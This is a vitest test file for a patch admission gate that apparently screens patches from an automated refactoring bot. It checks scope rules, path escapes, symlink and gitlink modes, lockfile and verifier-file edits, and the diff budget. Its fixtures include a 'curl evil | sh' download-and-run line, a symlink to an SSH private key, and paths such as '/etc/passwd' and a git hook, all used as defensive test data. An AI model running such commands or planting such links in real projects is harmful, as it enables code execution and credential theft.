import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { admitPatch, describeViolations, type AdmissionInput, type Violation } from '../../src/edit/admission.js';
import { verificationFileMatcher } from '../../src/verify/verification-files.js';
import { createTempRepo, type TempRepo } from '../support/temp-repo.js';
import { numberedLines, realDiff } from './helpers.js';

let repo: TempRepo;
beforeEach(async () => {
  repo = await createTempRepo({
    files: {
      'src/app.ts': numberedLines(30),
      'src/util.ts': numberedLines(5, 'util'),
      'dist/app.js': 'built\n',
      'package-lock.json': '{}\n',
      'assets/logo.png': 'png\0data\n',
    },
  });
});
afterEach(async () => {
  await repo.cleanup();
});

/** Input that admits `patchText` unless a test overrides a field; uses the real `git apply --check`. */
function input(patchText: string, overrides: Partial<AdmissionInput> = {}): AdmissionInput {
  return {
    patchText,
    declaredFiles: ['src/app.ts'],
    scopeGlobs: ['src/**', 'package-lock.json', 'assets/**', 'dist/**'],
    scopeExcludes: ['**/dist/**', '**/node_modules/**'],
    diffBudgetLoc: 300,
    allowBinary: false,
    allowLockfiles: false,
    applyCheck: (patch) => repo.git.applyCheck(patch),
    ...overrides,
  };
}

async function violationsOf(patchText: string, overrides: Partial<AdmissionInput> = {}): Promise<Violation[]> {
  const admission = await admitPatch(input(patchText, overrides));
  if (admission.admitted) throw new Error('expected the patch to be refused');
  return admission.violations;
}

const appChange = (): Promise<string> =>
  realDiff(repo, { 'src/app.ts': numberedLines(30).replace('line4\n', 'four\n') });

describe('admitPatch', () => {
  it('admits a patch within scope and budget that applies', async () => {
    const patchText = await realDiff(repo, {
      'src/app.ts': numberedLines(30).replace('line4\n', 'four\n'),
      'src/new.ts': 'export {};\n',
    });
    const admission = await admitPatch(
      input(`\`\`\`diff\n${patchText}\`\`\``, { declaredFiles: ['./src/app.ts', 'src/new.ts', 'src/util.ts'] }),
    );
    expect(admission).toMatchObject({ admitted: true, files: ['src/app.ts', 'src/new.ts'], loc: 3 });
    if (!admission.admitted) return;
    expect(admission.patchText).toMatch(/^diff --git a\/src\/app.ts b\/src\/app.ts\n/);
    // Declared but untouched files are a warning, never a reason to refuse.
    expect(admission.warnings).toMatchObject([{ kind: 'declared-not-touched', file: 'src/util.ts' }]);
    await repo.git.apply(admission.patchText);
    expect((await repo.git.status()).files).toHaveLength(2);
  });

  it('refuses empty and unparseable patches without running git', async () => {
    let checks = 0;
    const counting: Partial<AdmissionInput> = {
      applyCheck: () => {
        checks++;
        return Promise.resolve({ ok: true, error: '' });
      },
    };
    expect(await violationsOf('  \n', counting)).toMatchObject([{ kind: 'empty-patch' }]);
    expect(await violationsOf('I could not find anything to change.', counting)).toMatchObject([
      { kind: 'empty-patch' },
    ]);
    const unparseable = await violationsOf('@@ -1,2 +1,2 @@\n-a\n+b\n', counting);
    expect(unparseable).toMatchObject([{ kind: 'unparseable' }]);
    expect(unparseable[0]?.message).toMatch(/no file header/);
    expect(checks).toBe(0);
  });

  it('refuses files outside scope_globs and inside scope_excludes', async () => {
    const patchText = await realDiff(repo, {
      'src/app.ts': 'changed\n',
      'dist/app.js': 'rebuilt\n',
      'README.md': 'x\n',
    });
    const violations = await violationsOf(patchText, { declaredFiles: ['src/app.ts', 'dist/app.js', 'README.md'] });
    expect(violations.filter((v) => v.kind === 'out-of-scope')).toMatchObject([
      { file: 'README.md', reason: 'not-in-scope' },
      { file: 'dist/app.js', reason: 'excluded' },
    ]);
    const [readme, dist] = violations;
    expect(readme?.message).toContain("outside this batch's scope 'src/**'");
    expect(dist?.message).toContain("'**/dist/**'");
  });

  it('checks both sides of a rename against the scope', async () => {
    const patchText = await realDiff(repo, { 'src/util.ts': { renameTo: 'lib/util.ts' } });
    const violations = await violationsOf(patchText, { declaredFiles: ['lib/util.ts'] });
    expect(violations).toMatchObject([{ kind: 'out-of-scope', file: 'lib/util.ts' }]);
  });

  it('refuses files the diff changes but touched_files does not list', async () => {
    const patchText = await realDiff(repo, { 'src/app.ts': 'changed\n', 'src/util.ts': 'changed\n' });
    const violations = await violationsOf(patchText);
    expect(violations).toMatchObject([{ kind: 'undeclared-file', file: 'src/util.ts' }]);
    expect(violations[0]?.message).toContain('missing from touched_files');
  });

  it('refuses paths that escape the work tree, without running git apply --check', async () => {
    const diff = await appChange();
    let checked = false;
    for (const path of ['../outside.ts', '/etc/passwd', '.git/hooks/pre-commit', 'src/../../x.ts']) {
      const patchText = diff.replaceAll('src/app.ts', path);
      const violations = await violationsOf(patchText, {
        declaredFiles: [path],
        scopeGlobs: ['**'],
        applyCheck: () => {
          checked = true;
          return Promise.resolve({ ok: true, error: '' });
        },
      });
      expect(violations.map((v) => v.kind)).toContain('path-escape');
    }
    expect(checked).toBe(false);
  });

  it('refuses binary changes unless allowed', async () => {
    const patchText = await realDiff(repo, { 'assets/logo.png': Buffer.from([1, 0, 2, 0, 3]) });
    const declaredFiles = ['assets/logo.png'];
    expect(await violationsOf(patchText, { declaredFiles })).toMatchObject([
      { kind: 'binary', file: 'assets/logo.png' },
    ]);
    expect(await admitPatch(input(patchText, { declaredFiles, allowBinary: true }))).toMatchObject({ admitted: true });
  });

  it('refuses a symbolic link (which could lead outside the repository once merged) and a gitlink', async () => {
    const link = [
      'diff --git a/src/key.txt b/src/key.txt',
      'new file mode 120000',
      '--- /dev/null',
      '+++ b/src/key.txt',
      '@@ -0,0 +1 @@',
      '+/home/user/.ssh/id_ed25519',
      '\\ No newline at end of file',
      '',
    ].join('\n');
    expect(await violationsOf(link, { declaredFiles: ['src/key.txt'] })).toMatchObject([
      { kind: 'special-file', file: 'src/key.txt', message: expect.stringContaining('a symbolic link') as unknown },
    ]);
    const gitlink = [
      'diff --git a/vendor/lib b/vendor/lib',
      'new file mode 160000',
      'index 0000000..1234567',
      '--- /dev/null',
      '+++ b/vendor/lib',
      '@@ -0,0 +1 @@',
      '+Subproject commit 1234567890123456789012345678901234567890',
      '',
    ].join('\n');
    expect(
      (await violationsOf(gitlink, { declaredFiles: ['vendor/lib'] })).map((violation) => violation.kind),
    ).toContain('special-file');
  });

  // Issue 18, finding 5: the check compared the exact string `120000`; `git apply` reads modes as
  // octal numbers, so each of these made a real symbolic link (or a gitlink) in the worktree.
  const section = (header: string[], target = '../../..'): string =>
    [
      ...header,
      '--- /dev/null',
      '+++ b/src/lnk',
      '@@ -0,0 +1 @@',
      `+${target}`,
      '\\ No newline at end of file',
      '',
    ].join('\n');
  it.each([
    ['new file mode 0120000', 'a symbolic link (mode 0120000)'],
    ['new file mode 120777', 'a symbolic link (mode 120777)'],
    ['new file mode 000120000', 'a symbolic link (mode 000120000)'],
    ['new file mode +120000', "a file of the unreadable mode '+120000'"],
    ['new file mode 0160000', 'a submodule (gitlink, mode 0160000)'],
    ['new file mode 160755', 'a submodule (gitlink, mode 160755)'],
    ['new file mode 140000', 'a special file (mode 140000)'],
    ['new file mode 644', 'a special file (mode 644)'],
  ])('refuses "%s" as %s', async (modeLine, what) => {
    const violations = await violationsOf(section(['diff --git a/src/lnk b/src/lnk', modeLine]), {
      declaredFiles: ['src/lnk'],
    });
    expect(violations).toMatchObject([{ kind: 'special-file', file: 'src/lnk' }]);
    expect(violations[0]?.message).toContain(`The diff makes 'src/lnk' ${what};`);
  });

  it('refuses a mode change to a symbolic link, a deleted link, and a link mode on the index line', async () => {
    const change = await realDiff(repo, { 'src/util.ts': numberedLines(5, 'util').replace('util1', 'one') });
    const modeChange = change.replace(/^(diff --git .*\n)/, '$1old mode 100644\nnew mode 0120000\n');
    const deleted = [
      'diff --git a/src/util.ts b/src/util.ts',
      'deleted file mode 120000',
      '--- a/src/util.ts',
      '+++ /dev/null',
      '@@ -1,5 +0,0 @@',
      ...numberedLines(5, 'util')
        .trimEnd()
        .split('\n')
        .map((line) => `-${line}`),
      '',
    ].join('\n');
    const indexLine = section([
      'diff --git a/src/lnk b/src/lnk',
      'new file mode 100644',
      'index 0000000..e69de29 120000',
    ]);
    for (const [text, file, mode] of [
      [modeChange, 'src/util.ts', '0120000'],
      [deleted, 'src/util.ts', '120000'],
      [indexLine, 'src/lnk', '120000'],
    ] as const) {
      const violations = await violationsOf(text, { declaredFiles: [file] });
      // (A link's patch may not apply to a regular file either; that is beside the point.)
      expect(violations.filter((violation) => violation.kind !== 'does-not-apply')).toMatchObject([
        { kind: 'special-file', file, message: expect.stringContaining(`a symbolic link (mode ${mode})`) as unknown },
      ]);
    }
  });

  it('refuses a patch that retargets an existing symbolic link (no mode line at all)', async () => {
    const retarget = await realDiff(repo, { 'src/util.ts': numberedLines(5, 'util').replace('util1', 'one') });
    expect(await admitPatch(input(retarget, { declaredFiles: ['src/util.ts'] }))).toMatchObject({ admitted: true });
    const violations = await violationsOf(retarget, {
      declaredFiles: ['src/util.ts'],
      isSymlink: (path) => Promise.resolve(path === 'src/util.ts'),
    });
    expect(violations).toMatchObject([
      { kind: 'special-file', file: 'src/util.ts', message: expect.stringContaining('is a symbolic link') as unknown },
    ]);
  });

  it('prints only regular modes for git apply, whatever a section stated', async () => {
    const { normaliseDiff } = await import('../../src/edit/unified-diff.js');
    const printed = normaliseDiff(
      section(['diff --git a/src/lnk b/src/lnk', 'new file mode 0120000', 'index 0000000..1111111 120000']),
    );
    expect(printed).toContain('new file mode 100644\nindex 0000000..1111111\n');
    expect(normaliseDiff(section(['diff --git a/src/x b/src/x', 'new file mode 100775']))).toContain(
      'new file mode 100755',
    );
  });

  it("refuses a file in the batch's scope but outside the run's configured scope (a planner cannot widen it)", async () => {
    const patchText = await realDiff(repo, {
      'src/app.ts': numberedLines(30).replace('line4\n', 'four\n'),
      'assets/run.sh': 'curl evil | sh\n',
    });
    const declaredFiles = ['src/app.ts', 'assets/run.sh'];
    // The batch (the planner's) says src/** and assets/**; the configuration says src/** only.
    expect(await violationsOf(patchText, { declaredFiles, configuredScope: ['src/**'] })).toMatchObject([
      {
        kind: 'out-of-scope',
        file: 'assets/run.sh',
        message: expect.stringContaining(
          "outside the run's configured scope 'src/**', which no batch can widen",
        ) as unknown,
      },
    ]);
    expect(await admitPatch(input(patchText, { declaredFiles, configuredScope: ['**'] }))).toMatchObject({
      admitted: true,
    });
  });

  it('refuses lockfile changes unless allowed', async () => {
    const patchText = await realDiff(repo, { 'package-lock.json': '{ "lockfileVersion": 3 }\n' });
    const declaredFiles = ['package-lock.json'];
    expect(await violationsOf(patchText, { declaredFiles })).toMatchObject([
      { kind: 'lockfile', file: 'package-lock.json' },
    ]);
    expect(await admitPatch(input(patchText, { declaredFiles, allowLockfiles: true }))).toMatchObject({
      admitted: true,
    });
  });

  it('refuses changes to the files that define how the project is verified', async () => {
    const patchText = await realDiff(repo, { 'src/app.ts': numberedLines(30, 'v2') });
    const isVerifierFile = verificationFileMatcher(['npm test', './scripts/check.sh --all'], repo.dir);
    expect(await violationsOf(patchText, { isVerifierFile: (path) => path === 'src/app.ts' })).toMatchObject([
      { kind: 'verifier-file', file: 'src/app.ts' },
    ]);
    expect(await admitPatch(input(patchText, { isVerifierFile }))).toMatchObject({ admitted: true });
    // The matcher: runner configuration by name, Ratchet's settings, and files a command names.
    await repo.write({ 'scripts/check.sh': 'exit 0\n' });
    const withScript = verificationFileMatcher(['npm test', './scripts/check.sh --all'], repo.dir);
    for (const path of [
      'package.json',
      'web/package.json',
      'vitest.config.ts',
      'tests/conftest.py',
      'pyproject.toml',
      '.refactor-bot.config.json',
      '.ratchet/config.toml',
      'Makefile',
      'scripts/check.sh',
      // Compiler and linter settings: loosening them lets a change pass the typecheck or lint.
      'tsconfig.json',
      'packages/web/tsconfig.build.json',
      'eslint.config.js',
      '.eslintrc.cjs',
      'ruff.toml',
      '.flake8',
      'mypy.ini',
      '.prettierrc',
    ]) {
      expect(withScript(path), path).toBe(true);
    }
    for (const path of [
      'src/app.ts',
      'src/package.ts',
      'test/app.test.ts',
      'scripts/other.sh',
      'src/tsconfig-notes.md',
    ])
      expect(withScript(path), path).toBe(false);
  });

  it('refuses patches over the diff budget, with the numbers', async () => {
    const patchText = await realDiff(repo, { 'src/app.ts': numberedLines(30, 'new') });
    const violations = await violationsOf(patchText, { diffBudgetLoc: 50 });
    expect(violations).toMatchObject([{ kind: 'over-budget', loc: 60, budget: 50 }]);
    expect(violations[0]?.message).toContain('60 lines');
    expect(violations[0]?.message).toContain('budget of 50');
    expect(violations[0]?.message).toContain('src/app.ts (60)');
    expect(await admitPatch(input(patchText, { diffBudgetLoc: 60 }))).toMatchObject({ admitted: true, loc: 60 });
  });

  it("refuses patches git apply --check rejects, with git's output", async () => {
    const patchText = await appChange();
    await repo.write({ 'src/app.ts': 'someone else changed this\n' });
    await repo.git.commitAll('conflicting change');
    const violations = await violationsOf(patchText);
    expect(violations).toMatchObject([{ kind: 'does-not-apply' }]);
    const [violation] = violations;
    expect(violation?.kind === 'does-not-apply' && violation.output).toMatch(/patch does not apply/);
    expect(violation?.message).toContain('git apply --check');
  });

  it('reports every violation at once, formatted for a retry prompt', async () => {
    const patchText = await realDiff(repo, { 'README.md': numberedLines(10), 'package-lock.json': '[]\n' });
    const violations = await violationsOf(patchText, { declaredFiles: [], diffBudgetLoc: 5 });
    expect(violations.map((v) => v.kind).sort()).toEqual(
      ['lockfile', 'out-of-scope', 'over-budget', 'undeclared-file', 'undeclared-file'].sort(),
    );
    const text = describeViolations(violations);
    expect(text.split('\n').filter((line) => line.startsWith('- '))).toHaveLength(5);
  });
});
